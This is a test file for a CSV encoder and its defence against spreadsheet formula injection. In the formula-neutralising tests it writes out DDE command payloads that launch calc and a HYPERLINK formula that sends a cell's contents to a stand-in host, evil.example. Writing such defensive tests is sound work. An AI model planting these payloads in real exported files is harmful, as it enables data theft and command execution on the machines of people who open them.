import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { encodeCsv, neutraliseFormula } from '@/lib/io/csv';

const BOM = '\uFEFF';

/** Encode one row and strip the BOM and record terminator, to look at the fields alone. */
const row = (...cells: string[]) => encodeCsv([cells]).slice(1, -2);

describe('CSV encoding', () => {
  it('starts with a UTF-8 byte order mark', () => {
    expect(encodeCsv([['a']]).startsWith(BOM)).toBe(true);
  });

  it('ends every record with CRLF, the last one included', () => {
    expect(encodeCsv([['a', 'b'], ['c', 'd']])).toBe(`${BOM}a,b\r\nc,d\r\n`);
  });

  it('leaves plain fields unquoted', () => {
    expect(row('Ada', 'Lovelace', 'ada@example.com')).toBe('Ada,Lovelace,ada@example.com');
  });

  it('quotes a field with a comma', () => {
    expect(row('Acme, Inc.')).toBe('"Acme, Inc."');
  });

  it('quotes a field with a quote and doubles the quote', () => {
    expect(row('Jane "JJ" Doe')).toBe('"Jane ""JJ"" Doe"');
  });

  it('quotes a field with an LF line break and keeps it', () => {
    expect(row('line one\nline two')).toBe('"line one\nline two"');
  });

  it('quotes a field with a CRLF line break and keeps it', () => {
    expect(row('line one\r\nline two')).toBe('"line one\r\nline two"');
  });

  it('quotes a field with leading or trailing spaces so they survive', () => {
    expect(row(' padded', 'padded ')).toBe('" padded","padded "');
  });

  it('writes an empty field as nothing between commas', () => {
    expect(row('a', '', 'c')).toBe('a,,c');
  });

  it('passes accents, emoji, CJK and right-to-left text through unchanged', () => {
    const cells = ['José Müller-Łukasiewicz', 'Growth 🚀 lead', '株式会社テスト', 'شركة الاختبار', 'חברת בדיקה'];
    expect(row(...cells)).toBe(cells.join(','));
  });

  it('reads back with papaparse exactly as written', () => {
    const rows = [
      ['Name', 'Notes'],
      ['Zoë "Z" O\'Brien', 'Met at SaaStr, Paris.\nWants a demo\r\nnext week'],
      ['李雷', '=HYPERLINK("http://evil.example","click")'],
    ];
    const parsed = Papa.parse<string[]>(encodeCsv(rows), { skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.data).toEqual([rows[0], rows[1], ['李雷', `'${rows[2]![1]}`]]);
  });
});

describe('formula neutralising', () => {
  it('prefixes a HYPERLINK formula with a single quote', () => {
    expect(neutraliseFormula('=HYPERLINK("http://evil.example?x="&A1,"Click")')).toBe(
      '\'=HYPERLINK("http://evil.example?x="&A1,"Click")',
    );
  });

  it('prefixes a plus-led DDE payload', () => {
    expect(neutraliseFormula("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
  });

  it('prefixes a minus-led expression', () => {
    expect(neutraliseFormula('-2+3')).toBe("'-2+3");
  });

  it('prefixes an at-sign function', () => {
    expect(neutraliseFormula('@SUM(1+1)*cmd|\' /C calc\'!A0')).toBe('\'@SUM(1+1)*cmd|\' /C calc\'!A0');
  });

  it('prefixes a tab-led cell', () => {
    expect(neutraliseFormula('\t=1+1')).toBe("'\t=1+1");
  });

  it('prefixes a carriage-return-led cell', () => {
    expect(neutraliseFormula('\r=1+1')).toBe("'\r=1+1");
  });

  it('leaves a formula character in the middle of a cell alone', () => {
    expect(neutraliseFormula('ada@example.com')).toBe('ada@example.com');
    expect(neutraliseFormula('a=b')).toBe('a=b');
  });

  it('leaves an E.164 phone number with its plus', () => {
    expect(neutraliseFormula('+14155552671')).toBe('+14155552671');
  });

  it('prefixes a plus-led number that is not strict E.164', () => {
    expect(neutraliseFormula('+1 415 555 2671')).toBe("'+1 415 555 2671");
    expect(neutraliseFormula('+14155552671+1')).toBe("'+14155552671+1");
    expect(neutraliseFormula('+0123456789')).toBe("'+0123456789");
  });

  it('neutralises every cell the encoder writes', () => {
    expect(row('=1+1', '+14155552671', '@x')).toBe("'=1+1,+14155552671,'@x");
  });

  it('quotes a carriage-return-led cell after neutralising it', () => {
    expect(row('\rcmd')).toBe('"\'\rcmd"');
  });
});
